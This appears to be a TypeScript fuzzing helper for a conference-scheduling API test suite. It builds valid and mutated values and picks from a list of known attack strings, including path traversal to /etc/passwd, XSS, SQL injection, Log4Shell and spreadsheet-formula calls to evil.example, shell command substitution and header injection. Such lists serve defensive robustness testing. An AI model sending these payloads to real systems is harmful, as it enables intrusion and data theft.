/** Values for the schemas of the API's description: as they should be, bent, and hostile. */
import type { Chance } from '../../../support/chance.js';

export interface Schema {
  readonly type?: string | readonly string[];
  readonly enum?: readonly unknown[];
  readonly const?: unknown;
  readonly anyOf?: readonly Schema[];
  readonly oneOf?: readonly Schema[];
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly patternProperties?: Readonly<Record<string, Schema>>;
  readonly additionalProperties?: boolean | Schema;
  readonly required?: readonly string[];
  readonly items?: Schema;
  readonly minItems?: number;
  readonly minimum?: number;
  readonly maximum?: number;
  readonly minLength?: number;
  readonly maxLength?: number;
  readonly pattern?: string;
}

/** What is there in the conference that is asked about, by the name of the field that means it. */
const KNOWN: Readonly<Record<string, readonly unknown[]>> = {
  conference: ['small', 'small', 'small', 'small', 'small', 'small', 'small', 'other'],
  slug: ['other', 'third'],
  session: ['a', 'b', 'c', 'd', 'e'],
  replaces: ['a', 'b'],
  room: ['Aula', 'Box', 'Cube'],
  overflow: ['Box', 'Cube'],
  track: ['systems'],
  speaker: ['ana'],
  minutes: [-5, 0, 5, 10, 15, 60],
  start: ['2026-10-24T10:00:00Z', '2026-10-24T13:15:00+02:00', '2026-10-25T09:00:00Z'],
  end: ['2026-10-24T18:00:00Z', '2026-10-25T12:00:00Z'],
  at: ['2026-10-24T10:20:00Z', '2026-10-24T23:59:59Z'],
  now: ['2026-10-24T10:20:00Z'],
  until: ['2026-10-24T20:00:00Z'],
  after: ['0', '3'],
  limit: ['5', '100'],
  revision: ['1', '2', '3', '4', '5'],
  timezone: ['UTC', 'Europe/Berlin'],
  language: ['en', 'ro'],
  name: ['anna', 'ben', 'new person'],
  email: ['ana@example.org', 'ben@example.org'],
  password: ['correct horse battery', 'wrong horse battery'],
  phone: ['abcdefghijklmnopqrstuvwx'],
  // Nothing outside is ever asked: this is refused before.
  url: ['http://127.0.0.1:1/schedule.ics'],
  endpoint: ['https://127.0.0.1/push'],
  logo: [null],
  hash: ['x'.repeat(43)],
  source: ['upload'],
  passkey: ['none'],
};

/** Texts that have hurt servers before. */
export const HOSTILE: readonly string[] = [
  '',
  ' ',
  '\u0000',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/package.json',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE journal; --",
  '=HYPERLINK("http://evil.example","x")',
  '${jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '$(reboot)',
  '`reboot`',
  'a\r\nSet-Cookie: hallway=stolen',
  'BEGIN:VEVENT\r\nEND:VCALENDAR',
  ']]><x/>',
  '\ud800',
  '\u202eevil',
  '\u200b\u200d\ufeff',
  'ﷺ'.repeat(50),
  'é'.normalize('NFD').repeat(100),
  'a'.repeat(10_000),
  '9'.repeat(400),
  '-1',
  '1e999',
  'NaN',
  '0x7fffffff',
  '9007199254740993',
  'null',
  'true',
  '[]',
  '2026-13-45T99:99:99Z',
  '+275760-09-13T00:00:00.001Z',
  '0000-00-00T00:00:00Z',
  '("a")'.repeat(200),
  `${'a'.repeat(60)}!`,
  '(a+)+$',
  '٣٤',
];

const NASTY: readonly unknown[] = [
  ...HOSTILE,
  null,
  true,
  -1,
  0,
  1.5,
  1e308,
  -1e308,
  2 ** 53,
  [],
  {},
  [[[[[[]]]]]],
  { toString: 'x' },
  { type: 'delay' },
  { length: 1e9 },
];

const NOWHERE: Schema = {};

/** A value that fits the schema. @param field the name that it goes by, for what must exist to be named. */
export function fitting(schema: Schema, chance: Chance, field = '', depth = 0): unknown {
  if (schema.const !== undefined) return schema.const;
  if (schema.enum) return chance.pick(schema.enum);
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices) return fitting(chance.pick(choices), chance, field, depth);
  const type = typeof schema.type === 'string' ? schema.type : chance.pick(schema.type ?? ['string']);
  const known = KNOWN[field];
  if (known && ['string', 'integer', 'number'].includes(type)) {
    const one = chance.pick(known);
    if (type === 'string' ? typeof one === 'string' : typeof one === 'number') return one;
  }
  switch (type) {
    case 'null':
      return null;
    case 'boolean':
      return chance.next() < 0.5;
    case 'integer':
    case 'number':
      return number(schema, chance);
    case 'array':
      return Array.from({ length: Math.max(schema.minItems ?? 0, depth > 4 ? 0 : chance.below(3)) }, () =>
        fitting(schema.items ?? NOWHERE, chance, field.replace(/s$/, ''), depth + 1),
      );
    case 'object':
      return object(schema, chance, depth);
    default:
      return text(schema, chance);
  }
}

function number({ minimum = -100, maximum = 1_000 }: Schema, chance: Chance): number {
  return minimum + chance.below(Math.min(maximum - minimum, 1_000) + 1);
}

function object({ properties = {}, required = [] }: Schema, chance: Chance, depth: number): Record<string, unknown> {
  const made: Record<string, unknown> = {};
  for (const [name, schema] of Object.entries(properties)) {
    if (required.includes(name) || chance.next() < (depth > 3 ? 0.1 : 0.3))
      made[name] = fitting(schema, chance, name, depth + 1);
  }
  return made;
}

const SHAPES: readonly (readonly [RegExp, string])[] = [
  [/\{43\}/, 'x'.repeat(43)],
  [/\{64\}/, 'a'.repeat(64)],
  [/22,64/, 'abcdefghijklmnopqrstuvwx'],
  [/#.*[0-9a-f]/i, '#336699'],
  [/A-Za-z.*2,8/, 'en'],
  [/\\d|0-9/, '7'],
];

function text({ pattern, minLength = 0, maxLength = 100 }: Schema, chance: Chance): string {
  const shape = pattern === undefined ? undefined : SHAPES.find(([looks]) => looks.test(pattern))?.[1];
  const chosen = shape ?? chance.pick(['small', 'Title', 'Ünïcode ✓', 'a', 'Line one. Line two.']);
  return chosen.padEnd(minLength, 'x').slice(0, maxLength);
}

export const nasty = (chance: Chance): unknown => chance.pick(NASTY);

/** The value with one place of it bent: another value, one more field, one less. */
export function bent(value: unknown, chance: Chance): unknown {
  if (Array.isArray(value) && value.length > 0 && chance.next() < 0.7) {
    const at = chance.below(value.length);
    return (value as unknown[]).map((item, i) => (i === at ? bent(item, chance) : item));
  }
  if (typeof value !== 'object' || value === null || chance.next() < 0.1) return nasty(chance);
  const fields = Object.entries(value);
  const at = chance.below(fields.length + 1);
  const chosen = fields[at];
  if (!chosen) return Object.fromEntries([...fields, [String(chance.pick(HOSTILE)), nasty(chance)]]);
  if (chance.next() < 0.2) return Object.fromEntries(fields.filter((field) => field !== chosen));
  return Object.fromEntries(fields.map((field) => (field === chosen ? [field[0], bent(field[1], chance)] : field)));
}
